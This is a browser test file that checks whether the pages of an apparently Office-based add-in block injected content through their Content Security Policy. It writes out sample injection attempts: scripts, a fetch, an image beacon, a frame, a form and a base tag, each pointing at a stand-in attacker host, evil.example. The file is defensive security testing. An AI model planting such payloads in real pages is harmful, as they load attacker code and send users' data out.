import type { Browser, Page } from "@playwright/test";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { startBrowser } from "../support/browser.ts";
import { eventually } from "../support/eventually.ts";
import { startSite } from "../support/site.ts";

let browser: Browser;
let site: Awaited<ReturnType<typeof startSite>>;

beforeAll(async () => {
  [browser, site] = await Promise.all([startBrowser(), startSite()]);
});

afterAll(async () => {
  await browser.close();
  await site.close();
});

interface PolicyWindow {
  refused: string[];
  ran: boolean;
}

/** A page of the site on a server that says nothing of policies. */
const open = async (name: string): Promise<Page> => {
  const page = await browser.newPage();
  await page.route("https://appsforoffice.microsoft.com/**", (route) => route.abort());
  await page.addInitScript(() => {
    const kept = window as unknown as PolicyWindow;
    kept.refused = [];
    addEventListener("securitypolicyviolation", ({ effectiveDirective }) => {
      kept.refused.push(effectiveDirective);
    });
  });
  await page.goto(`${site.url}${name}`, { waitUntil: "domcontentloaded" });
  return page;
};

/** What somebody would try who had got a text of his own into the page. */
const attempts: readonly (readonly [string, string, () => void])[] = [
  [
    "a script in the page's text",
    "script-src-elem",
    () => {
      const script = document.createElement("script");
      script.textContent = "window.ran = true";
      document.head.append(script);
    },
  ],
  [
    "a text run as a program",
    "script-src",
    () => void setTimeout("window.ran = true" as unknown as () => void),
  ],
  [
    "a script of another server",
    "script-src-elem",
    () => {
      const script = document.createElement("script");
      script.src = "https://evil.example/a.js";
      document.head.append(script);
    },
  ],
  ["sending something elsewhere", "connect-src", () => void fetch("https://evil.example/").catch(() => {})],
  [
    "a picture of another server",
    "img-src",
    () => {
      new Image().src = "https://evil.example/a.png?figures";
    },
  ],
  [
    "a page inside the page",
    "frame-src",
    () => {
      const frame = document.createElement("iframe");
      frame.src = "https://evil.example/";
      document.body.append(frame);
    },
  ],
  [
    "a form that goes elsewhere",
    "form-action",
    () => {
      const form = document.createElement("form");
      form.action = "https://evil.example/";
      document.body.append(form);
      form.submit();
    },
  ],
  [
    "another address for what follows",
    "base-uri",
    () => {
      const base = document.createElement("base");
      base.href = "https://evil.example/";
      document.head.append(base);
    },
  ],
];

describe.each(["index.html", "task-pane.html", "help.html"])("%s refuses by itself", (name) => {
  let page: Page;
  beforeAll(async () => {
    page = await open(name);
  });
  afterAll(() => page.close());

  test.each(attempts)("%s", async (_, directive, attempt) => {
    const refused = () => page.evaluate(() => (window as unknown as PolicyWindow).refused);
    await page.evaluate(() => {
      (window as unknown as PolicyWindow).refused.length = 0;
    });
    await page.evaluate(attempt);
    expect(await eventually(refused, (found) => found.length > 0)).toContain(directive);
    expect(await page.evaluate(() => "ran" in window)).toBe(false);
  });
});

test("the task pane has no WebAssembly and may not run it", async () => {
  const page = await open("task-pane.html");
  const runs = await page.evaluate(() =>
    WebAssembly.compile(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])).then(
      () => true,
      () => false,
    ),
  );
  expect(runs).toBe(false);
  await page.close();
});
